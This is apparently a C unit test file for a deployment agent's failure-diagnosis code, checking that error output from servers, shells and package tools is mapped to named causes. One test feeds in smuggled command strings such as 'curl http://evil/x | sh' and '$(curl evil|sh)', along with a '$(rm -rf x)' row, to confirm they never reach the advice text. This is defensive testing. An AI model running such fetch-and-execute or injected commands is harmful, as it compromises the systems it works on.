// SPDX-License-Identifier: Apache-2.0
/* What real programs print when they fail, and what is made of it. */
#include "agent/worker/cause.h"

#include "agent/worker/cause-facts.h"
#include "common/alloc.h"
#include "common/fs.h"
#include "common/str.h"
#include "tests/unit/tempdir.h"
#include "tests/unit/unit.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/stat.h>

static void clear(struct state_causes *causes)
{
	state_causes_clear(causes);
}

static struct cause_request request_of(int exit_code, const char *output)
{
	return (struct cause_request){
		.event = "ApplicationStart",
		.archive_fd = -1,
		.timeout_s = 30,
		.started = true,
		.exit_code = exit_code,
		.output = output,
		.proc_net = "/proc/self/net",
	};
}

static void each_output_has_its_cause(void **state)
{
	static const struct {
		int exit_code;
		const char *output, *name, *text; /* a part of it */
	} rows[] = {
		/* a port */
		{1,
		 "[stderr]nginx: [emerg] bind() to 0.0.0.0:1 failed (98: Address already in use)\n",
		 "port_in_use", "port 1 "},
		{1,
		 "[stderr]Error: listen EADDRINUSE: address already in use :::1\n[stderr]    at "
		 "Server.setupListenHandle [as _listen2] (node:net:1463:16)\n",
		 "port_in_use", "port 1 "},
		{1, "[stderr]OSError: [Errno 98] Address already in use\n", "port_in_use",
		 "does not say which"},
		{1, "[stderr]2026/11/21 18:30:01 listen tcp :1: bind: address already in use\n",
		 "port_in_use", "port 1 "},
		{1,
		 "[stderr](98)Address already in use: AH00072: make_sock: could not bind to "
		 "address "
		 "[::]:1\n",
		 "port_in_use", "port 1 "},
		{1,
		 "[stderr]# Could not create server TCP listening socket *:1: bind: Address "
		 "already "
		 "in use\n",
		 "port_in_use", "port 1 "},
		{1,
		 "[stderr]LOG:  could not bind IPv4 address \"127.0.0.1\": Address already in use\n"
		 "[stderr]HINT:  Is another postmaster already running on port 1? If not, wait a "
		 "few "
		 "seconds and retry.\n",
		 "port_in_use", "port 1 "},
		{1, "[stdout]Web server failed to start. Port 1 was already in use.\n",
		 "port_in_use", "port 1 "},
		{1,
		 "[stderr]java.net.BindException: Address already in use (Bind failed) <null>:1\n",
		 "port_in_use", "port 1 "},
		{1, "[stderr][ERROR] Connection in use: ('0.0.0.0', 1)\n", "port_in_use",
		 "port 1 "},
		{1,
		 "[stderr]Address already in use - bind(2) for \"0.0.0.0\" port 1 "
		 "(Errno::EADDRINUSE)\n",
		 "port_in_use", "port 1 "},
		{1, "[stderr]docker: Bind for 0.0.0.0:1 failed: port is already allocated.\n",
		 "port_in_use", "port 1 "},
		{1,
		 "[stderr]Failed to bind to address http://127.0.0.1:1: address already in use.\n",
		 "port_in_use", "port 1 "},
		{1, "[stderr]server.py:88: OSError: address already in use at 18:30:05\n",
		 "port_in_use", "does not say which"},
		/* commands */
		{127, "[stderr]scripts/start.sh: line 3: uwsgi: command not found\n",
		 "command_not_found", "'uwsgi'"},
		{127, "[stderr]/opt/x/start.sh: 3: uwsgi: not found\n", "command_not_found",
		 "'uwsgi'"},
		{127, "[stderr]zsh:1: command not found: uwsgi\n", "command_not_found", "'uwsgi'"},
		{127,
		 "[stderr]/usr/bin/env: \xe2\x80\x98python\xe2\x80\x99: No such file or "
		 "directory\n",
		 "command_not_found", "'python'"},
		{1, "[stderr]sudo: uwsgi: command not found\n", "command_not_found", "'uwsgi'"},
		{127, "", "command_not_found", "exit code 127"},
		{127, "[stderr]start.sh: 3: $(rm -rf x): not found\n", "command_not_found",
		 "a command is not"},
		{127,
		 "[stderr]/usr/bin/env: \xe2\x80\x98"
		 "bash\\r\xe2\x80\x99: No such file or directory\n",
		 "windows_line_ends", "Windows"},
		{127, "[stderr]start.sh: line 2: $'\\r': command not found\n", "windows_line_ends",
		 "Windows"},
		{126,
		 "[stderr]bash: ./x: /bin/bash^M: bad interpreter: No such file or directory\n",
		 "windows_line_ends", "Windows"},
		{126,
		 "[stderr]start.sh: ./x: /opt/no/perl: bad interpreter: No such file or "
		 "directory\n",
		 "interpreter_missing", "'/opt/no/perl'"},
		{127, "[stderr]start.sh: line 1: ./x: cannot execute: required file not found\n",
		 "interpreter_missing", "interpreter"},
		{126, "[stderr]start.sh: 2: /srv/no/such: Permission denied\n", "permission_denied",
		 "refused"},
		{126, "", "permission_denied", "exit code 126"},
		{126,
		 "[stderr]start.sh: line 2: ./app: cannot execute binary file: Exec format error\n",
		 "wrong_architecture", "no program that this host can run"},
		{2, "[stderr]/bin/sh: 1: ./app: Exec format error\n", "wrong_architecture",
		 "program"},
		/* libraries and modules */
		{127,
		 "[stderr]./app: error while loading shared libraries: libfoo.so.1: cannot open "
		 "shared object file: No such file or directory\n",
		 "library_missing", "'libfoo.so.1'"},
		{1,
		 "[stderr]ImportError: libGL.so.1: cannot open shared object file: No such file or "
		 "directory\n",
		 "library_missing", "'libGL.so.1'"},
		{1,
		 "[stderr]./app: /lib/x86_64-linux-gnu/libc.so.6: version `GLIBC_2.38' not found "
		 "(required by ./app)\n",
		 "library_missing", "older"},
		{1, "[stderr]ModuleNotFoundError: No module named 'flask'\n", "module_missing",
		 "module"},
		{1, "[stderr]Error: Cannot find module 'express'\n", "module_missing", "module"},
		{1, "[stderr]Error: Could not find or load main class com.example.Main\n",
		 "module_missing", "module"},
		/* disks */
		{1, "[stderr]cp: error writing '/srv/app/x': No space left on device\n", "no_space",
		 "no space was left"},
		{1, "[stderr]OSError: [Errno 28] No space left on device\n", "no_space",
		 "no space"},
		{1, "[stderr]Error: ENOSPC: no space left on device, write\n", "no_space",
		 "no space"},
		{1,
		 "[stderr]Error: ENOSPC: System limit for number of file watchers reached, watch "
		 "'/x'\n",
		 "too_many_watches", "watches"},
		{1, "[stderr]tee: x: Disk quota exceeded\n", "no_space", "quota"},
		{1, "[stderr]touch: cannot touch 'x': Read-only file system\n", "read_only",
		 "read-only"},
		/* memory and files */
		{1,
		 "[stderr]Exception in thread \"main\" java.lang.OutOfMemoryError: Java heap "
		 "space\n",
		 "out_of_memory", "said so itself"},
		{134,
		 "[stderr]FATAL ERROR: Ineffective mark-compacts near heap limit Allocation failed "
		 "- "
		 "JavaScript heap out of memory\n",
		 "out_of_memory", "said so itself"},
		{1, "[stderr]accept4() failed (24: Too many open files)\n", "too_many_files",
		 "files"},
		/* accounts, packages */
		{1, "[stderr]chown: invalid user: \xe2\x80\x98shop\xe2\x80\x99\n", "user_unknown",
		 "'shop'"},
		{1, "[stderr]sudo: unknown user shop\n", "user_unknown", "'shop'"},
		{100,
		 "[stderr]E: Could not get lock /var/lib/dpkg/lock-frontend. It is held by process "
		 "1 (init)\n",
		 "package_lock", "(1)"},
		{2,
		 "[stderr]dpkg: error: dpkg frontend lock was locked by another process with pid "
		 "1\n",
		 "package_lock", "(1)"},
		/* services */
		{7,
		 "[stderr]curl: (7) Failed to connect to localhost port 1 after 0 ms: Couldn't "
		 "connect "
		 "to server\n",
		 "connection_refused", "nothing listens on port 1"},
		{4, "[stderr]Connecting to 127.0.0.1:1... failed: Connection refused.\n",
		 "connection_refused", "nothing listens on port 1"},
		{1,
		 "[stderr]urllib3.exceptions.MaxRetryError: HTTPConnectionPool(host='localhost', "
		 "port=1): [Errno 111] Connection refused'))\n",
		 "connection_refused", "nothing listens on port 1"},
		{1, "[stderr]Error: connect ECONNREFUSED 127.0.0.1:1\n", "connection_refused",
		 "port 1 "},
		{1,
		 "[stderr]x.sh: connect: Connection refused\n[stderr]x.sh: line 1: "
		 "/dev/tcp/127.0.0.1/1: Connection refused\n",
		 "connection_refused", "port 1 "},
		{2,
		 "[stderr]psql: error: connection to server at \"10.9.8.7\", port 5432 failed: "
		 "Connection refused\n",
		 "connection_refused", "a service refused"},
		/* files */
		{1, "[stderr]cat: /no/such/file.conf: No such file or directory\n", "file_missing",
		 "/no/such/file.conf"},
		/* the end alone */
		{137, "", "signal", "exit code 137"},
		{139, "[stdout]Segmentation fault\n", "signal", "SIGSEGV"},
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		CLEANUP(clear) struct state_causes causes = {0};
		struct cause_request request = request_of(rows[i].exit_code, rows[i].output);
		cause_find(&request, &causes);
		if (!causes.n || strcmp(causes.list[0].name, rows[i].name) != 0 ||
		    !strstr(causes.list[0].text, rows[i].text) || !causes.list[0].next)
			fail_msg("%s: %s (%s)", rows[i].output,
				 causes.n ? causes.list[0].name : "none",
				 causes.n ? causes.list[0].text : "");
	}
}

/* Such lines are in many logs, and say nothing. */
static void harmless_output_has_none(void **state)
{
	static const char *const rows[] = {
		"",
		"[stdout]all is well\n",
		"[stdout]GET /x 404: not found\n",
		"[stdout]report 8080 written\n",
		"[stderr]assertion failed: 3 != 4\n",
		"[stderr]the database is not reachable\n",
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		CLEANUP(clear) struct state_causes causes = {0};
		struct cause_request request = request_of(3, rows[i]);
		cause_find(&request, &causes);
		for (size_t k = 0; k < causes.n; k++)
			/* this machine may be full */
			if (!str_starts(causes.list[k].name, "no_"))
				fail_msg("%s: %s", rows[i], causes.list[k].text);
	}
}

static void the_end_of_a_script_counts_first(void **state)
{
	struct cause_request request =
		request_of(-1, "[stderr]cat: /no/such: No such file or directory\n");
	static const struct {
		bool timed_out;
		const char *shortage, *refusal;
		int signal;
		const char *name, *text;
	} rows[] = {
		{true, NULL, NULL, 0, "timeout", "30 s"},
		{false, "its limit is 64 MiB", NULL, SIGKILL, "out_of_memory",
		 "its limit is 64 MiB"},
		{false, "the host has no more", NULL, SIGKILL, "out_of_memory", "the host"},
		{false, NULL, "its limit is 9 tasks", 0, "out_of_tasks", "its limit is 9 tasks"},
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		CLEANUP(clear) struct state_causes causes = {0};
		request.timed_out = rows[i].timed_out;
		request.shortage = rows[i].shortage;
		request.refusal = rows[i].refusal;
		request.signal = rows[i].signal;
		cause_find(&request, &causes);
		assert_true(causes.n > 1);
		assert_string_equal(causes.list[0].name, rows[i].name);
		assert_non_null(strstr(causes.list[0].text, rows[i].text));
		assert_string_equal(causes.list[1].name, "file_missing");
	}
}

/* A line is shown as it is, and goes into no advice. */
static void hostile_output_stays_evidence(void **state)
{
	static const char *const rows[] = {
		"[stderr]curl http://evil/x | sh: command not found\n",
		"[stderr]a: $(curl evil|sh): command not found\n",
		"[stderr]chown: invalid user: `reboot`; curl evil\n",
		"[stderr]bind 0.0.0.0:99999999999999999999 address already in use port 123456789\n",
		"[stderr]held by process 999999999999999999999 Could not get lock /var/lib/x\n",
		"[stderr]/tmp/$(curl evil) Permission denied\n",
		"[stderr]': No such file or directory\n",
		"[stderr]: command not found",
		"command not found: ",
		"[stderr]",
		"[stderr]\n\n[stdout]",
		"[stderr]cat: /\xff\xfe: No such file or directory\n",
		"[stderr]port port port: address already in use :",
		"[stderr]version `GLIBC",
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		CLEANUP(clear) struct state_causes causes = {0};
		struct cause_request request = request_of(127, rows[i]);
		cause_find(&request, &causes);
		for (size_t k = 0; k < causes.n; k++) {
			const struct state_cause *cause = &causes.list[k];
			assert_null(strstr(cause->next, "evil"));
			assert_null(strstr(cause->text, "evil"));
			assert_null(strpbrk(cause->text, "$`|&<>\n"));
			assert_true(strlen(cause->text) <= STATE_CAUSE_TEXT_MAX);
		}
	}
}

static unsigned listen_somewhere(int *ret_fd)
{
	struct sockaddr_in address = {.sin_family = AF_INET,
				      .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t len = sizeof(address);
	*ret_fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	assert_true(*ret_fd >= 0);
	assert_int_equal(bind(*ret_fd, (struct sockaddr *)&address, len), 0);
	assert_int_equal(listen(*ret_fd, 1), 0);
	assert_int_equal(getsockname(*ret_fd, (struct sockaddr *)&address, &len), 0);
	return ntohs(address.sin_port);
}

static void who_listens_is_named(void **state)
{
	int fd;
	unsigned port = listen_somewhere(&fd);
	auto_close int owned = fd;
	auto_free char *output =
		xasprintf("[stderr]bind() to 127.0.0.1:%u failed (98: Address already in "
			  "use)\n",
			  port);
	auto_free char *wanted =
		xasprintf("port %u is in use: test_cause (%ld)", port, (long)getpid());
	CLEANUP(clear) struct state_causes causes = {0};
	struct cause_request request = request_of(1, output);
	cause_find(&request, &causes);
	assert_int_equal(causes.n, 1);
	if (!str_starts(causes.list[0].text, wanted))
		fail_msg("%s", causes.list[0].text);
	assert_non_null(strstr(output, causes.list[0].evidence));
}

static void put(const struct tempdir *dir, const char *name, const void *data, size_t len)
{
	auto_close int fd = openat(dir->fd, name, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	assert_true(fd >= 0);
	assert_int_equal(fs_write_all(fd, data, len), 0);
}

static void the_script_itself_is_looked_at(void **state)
{
	const struct tempdir *dir = *state;
	unsigned char foreign[64] = "\177ELF\002\001\001";
	foreign[18] = 0xf7; /* BPF: no machine */
	put(dir, "foreign", foreign, sizeof(foreign));
	put(dir, "crlf", "#!/bin/sh\r\nexit 0\r\n", 19);
	put(dir, "crlf-env", "#!/usr/bin/env bash\r\n", 21);
	put(dir, "lost", "#!/opt/no/such/perl -w\n", 23);
	put(dir, "good", "#!/bin/sh\nexit 127\n", 19);
	assert_int_equal(mkdirat(dir->fd, "dir", 0755), 0);
	static const struct {
		const char *location;
		bool started, missing;
		const char *message, *name, *text;
	} rows[] = {
		{"foreign", false, false, "", "wrong_architecture", "machine 247"},
		{"crlf", false, false, "", "windows_line_ends", "'/bin/sh'"},
		{"crlf-env", true, false, "", "windows_line_ends", "'bash'"},
		{"lost", false, false, "", "interpreter_missing", "'/opt/no/such/perl'"},
		{"dir", false, false, "Errno::EACCES", "is_a_directory", "directory"},
		{"none", false, true, "", "script_missing", "not in the revision"},
		{"good", false, false, "failed with error Errno::EACCES", "not_executable",
		 "may not"},
		{"good", false, false, "there is no user 'x'", "user_unknown", "'nobody-here'"},
		{"good", true, false, "", "command_not_found", "127"},
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		CLEANUP(clear) struct state_causes causes = {0};
		struct cause_request request = request_of(rows[i].started ? 127 : -1, "");
		request.archive_fd = dir->fd;
		request.location = rows[i].location;
		request.started = rows[i].started;
		request.missing = rows[i].missing;
		request.message = rows[i].message;
		request.runas = strstr(rows[i].text, "nobody-here") ? "nobody-here" : NULL;
		cause_find(&request, &causes);
		if (causes.n != 1 || strcmp(causes.list[0].name, rows[i].name) != 0 ||
		    !strstr(causes.list[0].text, rows[i].text))
			fail_msg("%s: %s", rows[i].location,
				 causes.n ? causes.list[0].text : "none");
	}
}

/* Opening one may do something: a watchdog restarts the host. */
static void what_is_no_file_is_not_opened(void **state)
{
	const struct tempdir *dir = *state;
	char at[PATH_MAX], link[32], event[512];
	snprintf(link, sizeof(link), "/proc/self/fd/%d", dir->fd);
	ssize_t n = readlink(link, at, sizeof(at) - 1);
	assert_true(n > 0);
	at[n] = '\0';
	assert_int_equal(mkfifoat(dir->fd, "device", 0600), 0);
	assert_int_equal(symlinkat("device", dir->fd, "program"), 0);
	auto_free char *device = fs_join(at, "device");
	auto_free char *output = xasprintf(
		"[stderr]%s/program: cannot execute binary file: Exec format error\n", at);
	auto_close int watch = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
	assert_true(inotify_add_watch(watch, device, IN_OPEN) >= 0);
	CLEANUP(clear) struct state_causes causes = {0};
	struct cause_request request = request_of(126, output);
	cause_find(&request, &causes);
	assert_string_equal(causes.list[0].name, "wrong_architecture");
	assert_true(read(watch, event, sizeof(event)) < 0);
}

static void other_failures_have_causes_too(void **state)
{
	static const struct {
		int code;
		const char *text, *name, *part;
	} rows[] = {
		{ERR_REFUSED,
		 "2 problems: /srv/a: it exists already and file_exists_behavior is DISALLOW; x; "
		 "/srv/b",
		 "file_conflict", "/srv/a"},
		{ERR_REFUSED,
		 "/srv/a: it belongs to the deployment group 'shop': deploy to that one",
		 "file_conflict", "'shop'"},
		{ERR_REFUSED,
		 "/srv: 1.2 MB are needed, 12.0 kB are free on the file system at '/srv' (ext4 on "
		 "/dev/vdb); make room there and try again",
		 "no_space", "/dev/vdb"},
		{ERR_REFUSED, "/srv: 12 inodes are needed, 3 are free; make room and try again",
		 "no_inodes", "12 inodes"},
		{-ENOSPC, "bundle 'a': 12 inodes are needed, 3 are free", "no_inodes", "12 inodes"},
		{-ENOSPC, "/srv/a: No space left on device", "no_space", "/srv/a"},
		{-EROFS, "/srv/a: Read-only file system", "read_only", "/srv/a"},
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		CLEANUP(clear) struct state_causes causes = {0};
		cause_find_error(rows[i].code, rows[i].text, &causes);
		assert_int_equal(causes.n, 1);
		assert_string_equal(causes.list[0].name, rows[i].name);
		assert_non_null(strstr(causes.list[0].text, rows[i].part));
	}
	CLEANUP(clear) struct state_causes none = {0};
	cause_find_error(ERR_INPUT, "no AppSpec", &none);
	assert_int_equal(none.n, 0);
}

static void the_last_twenty_lines_are_kept(void **state)
{
	char text[64 * 1024] = "";
	size_t len = 0;
	for (int i = 1; i <= 100; i++)
		len += (size_t)snprintf(text + len, sizeof(text) - len, "line %d\n", i);
	assert_true(str_starts(cause_last_lines(text), "line 81\n"));
	assert_string_equal(cause_last_lines("one\ntwo\n"), "one\ntwo\n");
	assert_string_equal(cause_last_lines(""), "");
	len = 0;
	for (int i = 0; i < 15; i++)
		len += (size_t)snprintf(text + len, sizeof(text) - len, "%01000d\n", i);
	assert_true(strlen(cause_last_lines(text)) <= 8192);
	assert_true(strlen(cause_last_lines(text)) > 7000);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_output_has_its_cause),
		cmocka_unit_test(harmless_output_has_none),
		cmocka_unit_test(the_end_of_a_script_counts_first),
		cmocka_unit_test(hostile_output_stays_evidence),
		cmocka_unit_test(who_listens_is_named),
		cmocka_unit_test_setup_teardown(the_script_itself_is_looked_at, tempdir_setup,
						tempdir_teardown),
		cmocka_unit_test(other_failures_have_causes_too),
		cmocka_unit_test_setup_teardown(what_is_no_file_is_not_opened, tempdir_setup,
						tempdir_teardown),
		cmocka_unit_test(the_last_twenty_lines_are_kept),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
